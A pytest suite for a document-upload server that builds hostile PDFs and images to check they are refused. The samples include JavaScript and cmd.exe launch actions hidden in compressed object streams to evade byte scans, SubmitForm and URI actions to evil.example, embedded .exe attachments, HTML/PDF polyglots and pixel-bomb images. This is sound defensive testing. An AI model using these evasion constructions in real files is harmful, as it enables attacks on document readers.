"""Hostile uploads (issue 18, items 3 and 4) through real HTTP and the real database.

PDFs with active content where a byte scan cannot see it (inside FlateDecode object
streams, behind indirect references, orphaned), automatic URI and launch actions, embedded
files, polyglots (bytes before the header, an HTML page, an archive after `%%EOF`) are
refused and nothing is stored; clean PDFs, object streams and internal links included, are
stored byte for byte. Large images are refused from their header before any decoding, or
decoded reduced, and what is stored is a cleaned image. Stored files are served sandboxed.
"""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image, ImageDraw, ImageFile, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript

from server.documents.budget import BUDGET
from server.documents.images import DECODE_MAX_PIXELS
from server.staff import StaffAccounts
from tests.admin.conftest import PASSWORD, StaffClient
from tests.lifecycle.conftest import approved_person  # noqa: F401
from tests.miniprogram.conftest import form, pdf_bytes
from tests.miniprogram.test_documents import nothing_stored

# --- a small PDF writer: cross-reference stream, one FlateDecode object stream -------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
DRAWING = b"0 0 1 rg 20 20 160 160 re f"
CONTENT = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(DRAWING), DRAWING)


def build_pdf(
    objects: dict[int, bytes],
    packed: dict[int, bytes] | None = None,
    orphans: dict[int, bytes] | None = None,
    prefix: bytes = b"",
    suffix: bytes = b"",
) -> bytes:
    """A PDF 1.5 with a cross-reference stream. `packed` objects go into one FlateDecode object
    stream (listed in the cross-reference stream); `orphans` go into the same stream unlisted."""
    packed, orphans = packed or {}, orphans or {}
    inside = {**packed, **orphans}
    stm_num = max([*objects, *inside]) + 1
    xref_num = stm_num + 1
    out = io.BytesIO()
    out.write(prefix + b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n")
    index: dict[int, int] = {}
    if inside:
        head, body = b"", b""
        for i, num in enumerate(sorted(inside)):
            index[num] = i
            head += b"%d %d " % (num, len(body))
            body += inside[num] + b"\n"
        data = zlib.compress(head + body)
        offsets[stm_num] = out.tell()
        out.write(
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stm_num, len(inside), len(head), len(data))
            + data
            + b"\nendstream\nendobj\n"
        )
    offsets[xref_num] = out.tell()
    rows = b""
    for num in range(xref_num + 1):
        if num in offsets:
            rows += struct.pack(">BIH", 1, offsets[num], 0)
        elif num in packed:
            rows += struct.pack(">BIH", 2, stm_num, index[num])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if num == 0 else 0)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_num, xref_num + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_num])
    return out.getvalue() + suffix


def page_objects(catalog: bytes = CATALOG, page: bytes = PAGE) -> dict[int, bytes]:
    return {1: catalog, 2: PAGES, 3: page, 4: CONTENT}


def open_action(action_ref: bytes = b"5 0 R") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action_ref + b" >>"


def pypdf_pdf(change=None, password: str | None = None) -> bytes:
    """A one-page PDF written by pypdf, changed by `change(writer)` first."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_IN_OBJECT_STREAM = build_pdf(page_objects(open_action()), packed={5: b"<< /S /JavaScript /JS (app.alert(1)) >>"})
HTML_POLYGLOT = (
    b"<!DOCTYPE html><html><body><script>alert(1)</script>"  # 52 bytes: %PDF-1.4 at byte 52, as in the issue
    + pdf_bytes()
)
HOSTILE_PDFS = {
    # issue 18: /OpenAction into a FlateDecode /ObjStm holding /S /JavaScript
    "javascript_open_action_in_object_stream": JS_IN_OBJECT_STREAM,
    "uri_open_action": build_pdf(page_objects(open_action(b"<< /S /URI /URI (https://evil.example/) >>"))),
    "uri_open_action_in_object_stream": build_pdf(
        page_objects(open_action()), packed={5: b"<< /S /URI /URI (https://evil.example/) >>"}
    ),
    "launch_open_action_in_object_stream": build_pdf(
        page_objects(open_action()), packed={5: b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"}
    ),
    "action_type_behind_a_reference": build_pdf(
        page_objects(open_action()), packed={5: b"<< /S 6 0 R /URI (https://evil.example/) >>", 6: b"/U#52I"}
    ),
    "uri_link_annotation_on_the_page": build_pdf(
        page_objects(page=PAGE.replace(b" >>", b" /Annots [5 0 R] >>")),
        packed={
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://evil.example/) >> >>"
        },
    ),
    "page_open_action_submitting_a_form": build_pdf(
        page_objects(page=PAGE.replace(b" >>", b" /AA << /O 5 0 R >> >>")),
        packed={5: b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"},
    ),
    "embedded_file_in_object_stream": build_pdf(
        {2: PAGES, 3: PAGE, 4: CONTENT, 7: b"<< /Length 2 >>\nstream\nMZ\nendstream"},
        packed={
            1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>",
            5: b"<< /Names [(invoice.exe) 6 0 R] >>",
            6: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
        },
    ),
    "file_attachment_annotation": build_pdf(
        page_objects(page=PAGE.replace(b" >>", b" /Annots [5 0 R] >>")),
        packed={5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>"},
    ),
    "orphan_javascript_in_an_object_stream": build_pdf(
        page_objects(), orphans={9: b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    ),
    "javascript_written_by_pypdf": pypdf_pdf(lambda w: w.add_open_action(JavaScript("app.alert(1);"))),
    "attachment_written_by_pypdf": pypdf_pdf(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00")),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
async def test_a_pdf_with_active_content_is_refused_and_nothing_stored(server, as_user, upload, name):
    c = await as_user("pdf-" + name.replace("_", "-")[:40])
    data = HOSTILE_PDFS[name]
    r = await upload(c, "work_proof", data, "证明.pdf", "application/pdf")
    assert r.status == 422, r.text
    assert r.error_code == "pdf_active_content"
    assert r.json["error"]["fields"] == [
        {"field": "file", "code": "pdf_active_content", "message": r.json["error"]["message"]}
    ]
    assert "PDF 文件含有" in r.json["error"]["message"] and "打印为 PDF" in r.json["error"]["message"]
    await nothing_stored(server, c.openid, version=1)
    assert BUDGET.used == 0


def test_the_object_stream_hides_the_names_from_a_byte_scan():
    """The issue's file: no active name in its raw bytes, only after inflating the object stream."""
    for word in (b"JavaScript", b"/JS", b"OpenAction 5 0 R"):
        assert (word in JS_IN_OBJECT_STREAM) == (word == b"OpenAction 5 0 R")
    reader = PdfReader(io.BytesIO(JS_IN_OBJECT_STREAM))
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"  # a real PDF reader sees it


@pytest.mark.parametrize(
    "data,status,code",
    [
        (HTML_POLYGLOT, 415, "unsupported_file_type"),  # issue 18: HTML with %PDF-1.4 at byte 52 and a trailer
        (b"<body><p>hello</p></body>\n" + pdf_bytes(), 422, "pdf_content_before_header"),
        (b"\x00\x00\x00junk\n" + build_pdf(page_objects()), 422, "pdf_content_before_header"),
        (b"GIF89a\x01\x00\x01\x00" + pdf_bytes(), 415, "unsupported_file_type"),
        (pdf_bytes() + b"PK\x03\x04" + b"\x00" * 60, 422, "file_corrupt"),  # an archive after %%EOF
        (pdf_bytes() + b"<html><script>alert(1)</script></html>\n", 422, "file_corrupt"),
        (pypdf_pdf(password="secret"), 422, "pdf_encrypted"),
        (build_pdf({1: CATALOG}), 422, "file_corrupt"),  # the page tree is missing
        (build_pdf(page_objects())[:-60] + b"startxref\n999999\n%%EOF\n", 422, "file_corrupt"),
    ],
)
async def test_polyglots_and_broken_pdfs_get_a_clear_4xx(server, as_user, upload, data, status, code):
    c = await as_user("polyglot")
    r = await upload(c, "other_proof", data, "file.pdf", "application/pdf")
    assert r.status == status, r.text
    assert r.error_code == code
    assert any("\u4e00" <= ch <= "\u9fff" for ch in r.json["error"]["message"])
    await nothing_stored(server, c.openid, version=1)


def test_the_html_polyglot_is_the_issues_file():
    assert HTML_POLYGLOT.index(b"%PDF-1.4") == 52 and b"trailer" in HTML_POLYGLOT


CLEAN_PDFS = {
    "object_streams": build_pdf({4: CONTENT}, packed={1: CATALOG, 2: PAGES, 3: PAGE}),
    "internal_link_and_named_destination": build_pdf(
        page_objects(page=PAGE.replace(b" >>", b" /Annots [5 0 R] >>")),
        packed={5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /GoTo /D [3 0 R /Fit] >> >>"},
    ),
    "written_by_pillow": pdf_bytes(),
    "written_by_pypdf": pypdf_pdf(),
    "trailing_whitespace_after_eof": pdf_bytes() + b"\r\n\x00\x00\n",
}


@pytest.mark.parametrize("name", sorted(CLEAN_PDFS))
async def test_a_clean_pdf_is_stored_byte_for_byte_and_served_sandboxed(as_user, upload, name):
    c = await as_user("clean-" + name.replace("_", "-")[:40])
    data = CLEAN_PDFS[name]
    r = await upload(c, "work_proof", data, "证明.pdf", "application/pdf")
    assert r.status == 201, r.text
    got = await c.get("/api/v1/me/documents/work_proof/file")
    assert got.status == 200 and got.body == data
    assert got.headers["Content-Type"] == "application/pdf"
    assert "sandbox" in got.headers["Content-Security-Policy"]
    assert got.headers["X-Content-Type-Options"] == "nosniff"


async def test_a_change_proof_goes_through_the_same_pdf_checks(server, approved_person):  # noqa: F811
    person, _ = await approved_person("proof-js")
    r = await person.post("/api/v1/me/changes/proof", data=form(JS_IN_OBJECT_STREAM, "proof.pdf", "application/pdf"))
    assert r.status == 422 and r.error_code == "pdf_active_content", r.text
    assert (await person.get("/api/v1/me/changes")).json["staged_proof"] is None
    assert await server.services.db["files.files"].count_documents({"metadata.kind": "change_proof"}) == 0
    clean = CLEAN_PDFS["object_streams"]
    r = await person.post("/api/v1/me/changes/proof", data=form(clean, "proof.pdf", "application/pdf"))
    assert r.status == 201 and r.json["content_type"] == "application/pdf", r.text


# --- large images ---------------------------------------------------------------------------------------


def png_of(width: int, height: int, row: bytes | None = None) -> bytes:
    """An RGBA PNG written row by row (never held decoded): every row `row`, else transparent black."""
    row = row if row is not None else b"\x00" * (4 * width)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    line = b"\x00" + row  # filter type 0
    idat = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.fixture
def decodes(monkeypatch):
    """Counts pixel decodes (ImageFile.load) in this process: the server runs in the test's process."""
    calls: list[tuple[int, int]] = []
    real = ImageFile.ImageFile.load

    def load(self):
        if self.tile:  # pixels still to decode (a loaded image has none)
            calls.append(self.size)
        return real(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    return calls


async def test_the_56_megapixel_png_is_refused_from_its_header_without_decoding(server, as_user, upload, decodes):
    c = await as_user("big-png")
    data = png_of(7000, 8000, b"\xff\xff\xff\xff" * 7000)  # issue 18: 7000x8000 RGBA, a few hundred KB
    assert len(data) < 400_000
    r = await upload(c, "diploma", data, "scan.png", "image/png")
    assert r.status == 422 and r.error_code == "image_too_many_pixels", r.text
    assert "2500 万像素" in r.json["error"]["message"]
    assert decodes == []
    await nothing_stored(server, c.openid, version=1)
    assert BUDGET.used == 0


async def test_a_png_at_the_pixel_cap_is_accepted_and_stored_clean(as_user, upload):
    c = await as_user("cap-png")
    side = int(DECODE_MAX_PIXELS**0.5)
    img = Image.new("1", (side, side), 1)
    ImageDraw.Draw(img).rectangle((100, 100, side - 100, side - 100), outline=0, width=8)
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "scanner serial 12345")
    out = io.BytesIO()
    img.save(out, "PNG", pnginfo=info, icc_profile=b"\x00" * 200)
    r = await upload(c, "diploma", out.getvalue(), "scan.png", "image/png")
    assert r.status == 201 and r.json["content_type"] == "image/png", r.text
    stored = (await c.get("/api/v1/me/documents/diploma/file")).body
    assert b"scanner serial" not in stored and b"iCCP" not in stored and b"tEXt" not in stored
    back = Image.open(io.BytesIO(stored))
    assert back.format == "PNG" and back.size == (side, side) and back.mode == "1"
    assert back.getpixel((100, side // 2)) == 0 and back.getpixel((side // 2, side // 2)) == 255


async def test_a_large_phone_jpeg_is_decoded_reduced_rotated_and_stripped(as_user, upload, decodes):
    c = await as_user("big-jpeg")
    img = Image.new("L", (7000, 5000), 240)  # 35 MP, over the decode cap: decoded at 1/2
    ImageDraw.Draw(img).rectangle((0, 0, 3499, 2499), fill=20)  # the top-left quarter is dark
    tags = Image.Exif()
    tags[0x010F], tags[0x0112] = "SecretCam", 6  # Make, Orientation: rotate 90
    tags.get_ifd(0x8825)[1] = "N"
    out = io.BytesIO()
    img.save(out, "JPEG", quality=80, exif=tags.tobytes())
    r = await upload(c, "diploma", out.getvalue(), "IMG_0001.JPG", "image/jpeg")
    assert r.status == 201 and r.json["content_type"] == "image/jpeg", r.text
    assert decodes == [(3500, 2500)]  # libjpeg decoded the reduced image, never the 35 MP one
    stored = (await c.get("/api/v1/me/documents/diploma/file")).body
    assert b"SecretCam" not in stored and b"Exif\x00\x00" not in stored
    back = Image.open(io.BytesIO(stored))
    assert back.format == "JPEG" and back.size == (2500, 3500) and not back.getexif()
    assert back.getpixel((2400, 100)) < 60 and back.getpixel((100, 100)) > 200  # turned a quarter clockwise


async def test_a_16_bit_grey_scan_keeps_its_greys(as_user, upload):
    c = await as_user("grey16")
    img = Image.new("I;16", (300, 200), 50_000)
    img.paste(Image.new("I;16", (100, 200), 8_000), (0, 0))
    out = io.BytesIO()
    img.save(out, "PNG")
    r = await upload(c, "diploma", out.getvalue(), "scan.png", "image/png")
    assert r.status == 201, r.text
    back = Image.open(io.BytesIO((await c.get("/api/v1/me/documents/diploma/file")).body))
    assert back.mode == "L" and back.size == (300, 200)
    assert back.getpixel((50, 100)) == 8_000 >> 8 and back.getpixel((250, 100)) == 50_000 >> 8  # not clipped white


def patched_sof(width: int, height: int, progressive: bool) -> bytes:
    """A real small JPEG whose frame header then claims `width` x `height`."""
    out = io.BytesIO()
    Image.new("L", (16, 16), 128).save(out, "JPEG", progressive=progressive)
    data = bytearray(out.getvalue())
    sof = data.find(b"\xff\xc2" if progressive else b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        patched_sof(9000, 8000, progressive=True),  # 72 MP progressive: a 144 MB coefficient buffer at any scale
        patched_sof(20000, 20000, progressive=False),  # 400 MP: over the declared cap
        png_of(5001, 5000),  # one row over the PNG cap
    ],
    ids=["progressive-72mp", "baseline-400mp", "png-over-the-cap"],
)
async def test_image_bombs_are_refused_before_decoding(server, as_user, upload, decodes, data):
    c = await as_user("bombs")
    r = await upload(c, "other_proof", data, "a.jpg", "image/jpeg")
    assert r.status == 422 and r.error_code == "image_too_many_pixels", r.text
    assert decodes == []
    await nothing_stored(server, c.openid, version=1)


# --- every stored file is served sandboxed ------------------------------------------------------------


async def test_the_person_gets_stored_documents_with_csp_sandbox(as_user, upload):
    c = await as_user("csp-person")
    png = png_of(40, 30, b"\x10\x20\x30\xff" * 40)
    assert (await upload(c, "diploma", png, "a.png", "image/png")).status == 201
    assert (await upload(c, "work_proof", pdf_bytes(), "a.pdf", "application/pdf")).status == 201
    for kind in ("diploma", "work_proof"):
        got = await c.get(f"/api/v1/me/documents/{kind}/file")
        assert got.status == 200
        csp = got.headers["Content-Security-Policy"]
        assert "sandbox" in csp and "default-src 'none'" in csp, csp
        assert got.headers["X-Content-Type-Options"] == "nosniff"


async def test_staff_get_stored_documents_with_csp_sandbox(server, as_user, upload, make_valid_record, http_factory):
    c = await as_user("csp-staff")
    await make_valid_record(c)
    up = await upload(c, "work_proof", pdf_bytes(), "a.pdf", "application/pdf")  # the one work period's proof
    assert up.status == 201, up.text
    proof = up.json["kind"]
    assert proof.startswith("work_proof_")
    r = await c.post("/api/v1/me/record/submit", json={"commitment": True})
    assert r.status == 200, r.text
    record_id = r.json["id"]
    await server.services.get(StaffAccounts).ensure("csp-reviewer", "reviewer", ["350203"], PASSWORD)
    staff = StaffClient(http_factory(server))
    assert (await staff.login("csp-reviewer")).status == 200
    for kind in ("id_front", proof):
        got = await staff.get(f"/admin/api/records/{record_id}/files/{kind}")
        assert got.status == 200, got.text
        assert "sandbox" in got.headers.get("Content-Security-Policy", ""), (kind, got.headers)
        assert got.headers["X-Content-Type-Options"] == "nosniff"
    pdf = await staff.get(f"/admin/api/records/{record_id}/files/{proof}")
    assert pdf.headers["Content-Disposition"].startswith("attachment")  # read outside the page
